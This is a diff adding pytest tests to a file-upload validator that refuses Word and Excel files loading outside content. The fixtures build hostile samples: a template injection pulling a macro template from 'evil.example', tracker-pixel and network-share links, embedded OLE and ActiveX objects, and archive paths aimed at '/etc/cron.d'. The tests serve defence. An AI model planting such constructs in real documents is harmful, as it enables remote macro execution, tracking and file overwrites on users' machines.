@@ -637,6 +637,140 @@ def test_macros_are_refused():
     assert rejection(renamed_docm, "policy.docx").code == "macros"
 
 
+RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    "{}</Relationships>"
+)
+RELATIONSHIP_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SETTINGS_XML = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<w:attachedTemplate r:id="rId1"/></w:settings>'
+)
+
+
+def relationship(kind: str, target: str, mode: str = "", number: int = 1) -> str:
+    mode_attribute = f' TargetMode="{mode}"' if mode else ""
+    return (
+        f'<Relationship Id="rId{number}" '
+        f'Type="{RELATIONSHIP_TYPE}{kind}" Target="{target}"{mode_attribute}/>'
+    )
+
+
+def test_a_template_attached_from_a_web_address_is_refused():
+    # Template injection: Word fetches the template when the file is opened and runs its macros.
+    injected = make_docx(
+        ("word/settings.xml", SETTINGS_XML),
+        (
+            "word/_rels/settings.xml.rels",
+            RELS.format(
+                relationship(
+                    "attachedTemplate", "https://evil.example/policy.dotm", mode="External"
+                )
+            ),
+        ),
+    )
+    refused = rejection(injected, "policy.docx")
+    assert refused.code == "external_content"
+    assert refused.message == (
+        "The selected file must not load anything from outside it, such as a linked template, "
+        "picture or document. Save it as a PDF and upload that"
+    )
+    # The mode written another way, or on a network share, is the same thing.
+    for target, mode in [
+        ("file://fileserver/share/t.dotm", "external"),
+        ("\\\\srv\\t", "External"),
+    ]:
+        other = make_docx(
+            (
+                "word/_rels/settings.xml.rels",
+                RELS.format(relationship("attachedTemplate", target, mode)),
+            )
+        )
+        assert rejection(other, "policy.docx").code == "external_content"
+
+
+@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame", "externalLinkPath"])
+def test_other_links_to_outside_content_are_refused(kind):
+    linked = make_docx(
+        (
+            "word/_rels/document.xml.rels",
+            RELS.format(relationship(kind, "http://tracker.example/pixel.png", mode="External")),
+        )
+    )
+    assert rejection(linked, "policy.docx").code in ("external_content", "embedded_objects")
+
+
+def test_hyperlinks_and_internal_pictures_are_fine():
+    linked = make_docx(
+        (
+            "word/_rels/document.xml.rels",
+            RELS.format(
+                relationship("hyperlink", "https://digital.nhs.uk/", mode="External", number=1)
+                + relationship("image", "media/image1.png", number=2)
+                + relationship("styles", "styles.xml", number=3)
+            ),
+        ),
+        ("word/media/image1.png", make_png()),
+        ("word/styles.xml", "<w:styles/>"),
+    )
+    assert check(linked, "policy.docx").kind_label == "Word document (DOCX)"
+
+
+@pytest.mark.parametrize(
+    "member",
+    [
+        "word/embeddings/oleObject1.bin",
+        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
+        "word/embeddings/Package.exe",
+        "word/activeX/activeX1.bin",
+        "word/oleObject1.bin",
+        "WORD/Embeddings/thing.bin",
+    ],
+)
+def test_embedded_objects_are_refused(member):
+    refused = rejection(make_docx((member, b"\xd0\xcf\x11\xe0" + bytes(100))), "policy.docx")
+    assert refused.code == "embedded_objects"
+    assert refused.message == (
+        "The selected file must not contain embedded objects, such as another file or a chart's "
+        "spreadsheet. Save it as a PDF and upload that"
+    )
+
+
+def test_embedded_objects_in_a_spreadsheet_are_refused_too():
+    workbook = make_xlsx()
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
+    with_object = make_zip([*members, ("xl/embeddings/oleObject1.bin", b"\xd0\xcf" + bytes(50))])
+    assert rejection(with_object, "register.xlsx").code == "embedded_objects"
+    linked = make_zip(
+        [
+            *members,
+            (
+                "xl/externalLinks/_rels/externalLink1.xml.rels",
+                RELS.format(relationship("externalLinkPath", "file:///C:/x.xlsx", "External")),
+            ),
+        ]
+    )
+    assert rejection(linked, "register.xlsx").code == "external_content"
+
+
+@pytest.mark.parametrize("kind", ["oleObject", "package", "control"])
+def test_an_embedding_relationship_is_refused_wherever_its_part_is_kept(kind):
+    hidden = make_docx(
+        ("word/_rels/document.xml.rels", RELS.format(relationship(kind, "media/innocent.png"))),
+        ("word/media/innocent.png", b"\xd0\xcf\x11\xe0" + bytes(100)),
+    )
+    assert rejection(hidden, "policy.docx").code == "embedded_objects"
+
+
+def test_a_broken_relationships_part_is_refused_as_damaged():
+    broken = make_docx(("word/_rels/document.xml.rels", "<Relationships><Relationship"))
+    assert rejection(broken, "policy.docx").code == "damaged"
+
+
 @pytest.mark.parametrize("member", ["../../evil.sh", "/etc/cron.d/evil", "word/../../evil", "C:/x"])
 def test_member_paths_leaving_the_archive_are_refused(member):
     assert rejection(make_docx((member, "x")), "policy.docx").code == "unsafe_archive"
